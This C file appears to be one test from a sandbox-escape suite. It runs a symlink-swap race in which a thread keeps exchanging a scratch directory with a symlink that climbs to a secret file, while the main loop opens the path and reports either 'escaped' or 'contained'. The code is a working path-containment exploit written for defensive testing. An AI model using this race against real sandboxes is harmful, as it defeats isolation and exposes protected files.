/* race_symlink_swap: swap a path component for a symlink during open().
 *
 * A thread keeps exchanging scratch/d between a real directory (holding a
 * decoy file with the secret's name) and a symlink whose '..' chain climbs
 * to the secret's directory; the main thread opens "d/<name>" in a loop.
 * A checker that resolves the path and then lets something else resolve it
 * again (the gofer with a multi-component path, the kernel after a
 * "continue") loses this race.  Bounded: 3 s or 200000 opens.
 *
 * @class race
 * @moat --rootfs {rootfs}
 */
#include "common.h"
#include <pthread.h>

static char d_path[PATH_MAX + 8], x_path[PATH_MAX + 8], tmp_path[PATH_MAX + 8];
static volatile bool stop;
static bool use_exchange = true;

static void *
swapper(void *arg)
{
	(void)arg;
	while (!stop) {
		if (use_exchange) {
			if (renameat2(AT_FDCWD, d_path, AT_FDCWD, x_path,
				      RENAME_EXCHANGE) < 0)
				use_exchange = false;
			continue;
		}
		/* Without RENAME_EXCHANGE: four renames, not atomic, which
		 * only widens the window. */
		if (rename(d_path, tmp_path) == 0) {
			if (rename(x_path, d_path) < 0)
				(void)rename(tmp_path, d_path);
			else {
				(void)rename(d_path, x_path);
				(void)rename(tmp_path, d_path);
			}
		}
	}
	return NULL;
}

int
main(void)
{
	const char *secret = env_need("ESCAPE_SECRET");
	const char *name = strrchr(secret, '/');
	char dir[PATH_MAX], file[PATH_MAX * 2], target[PATH_MAX + 128];
	long opens = 0, decoys = 0, errors = 0;
	int last_err = 0, fd;
	size_t off = 0;
	pthread_t t;

	if (!name)
		setup_error("ESCAPE_SECRET is not an absolute path");
	name++;
	scratch_dir(dir, sizeof dir);
	snprintf(d_path, sizeof d_path, "%s/d", dir);
	snprintf(x_path, sizeof x_path, "%s/x", dir);
	snprintf(tmp_path, sizeof tmp_path, "%s/t", dir);
	if (mkdir(d_path, 0755) < 0)
		setup_error("mkdir %s: %s", d_path, errname(errno));
	snprintf(file, sizeof file, "%s/%s", d_path, name);
	fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, "decoy", 5) != 5)
		setup_error("decoy %s: %s", file, errname(errno));
	close(fd);

	/* x -> ../../.. (enough to pass any root) + the secret's directory. */
	for (int i = 0; i < 24; i++)
		off += (size_t)snprintf(target + off, sizeof target - off,
					"../");
	snprintf(target + off, sizeof target - off, "%s", secret_path_rel());
	*strrchr(target, '/') = '\0';
	if (symlink(target, x_path) < 0)
		setup_error("symlink %s: %s", x_path, errname(errno));

	if (pthread_create(&t, NULL, swapper, NULL) != 0)
		setup_error("pthread_create failed");
	double end = now_s() + 3.0;
	for (; opens < 200000 && now_s() < end; opens++) {
		char buf[256];
		ssize_t n;

		fd = open(file, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			errors++;
			last_err = errno;
			continue;
		}
		n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		if (strcmp(buf, "decoy") != 0)
			escaped("open #%ld followed the swapped-in "
				"symlink: secret=%s", opens + 1,
				buf);
		decoys++;
	}
	stop = true;
	pthread_join(t, NULL);
	contained("%ld opens: %ld decoys, %ld errors (last %s), swap by %s",
		  opens, decoys, errors, last_err ? errname(last_err) : "none",
		  use_exchange ? "RENAME_EXCHANGE" : "rename");
}
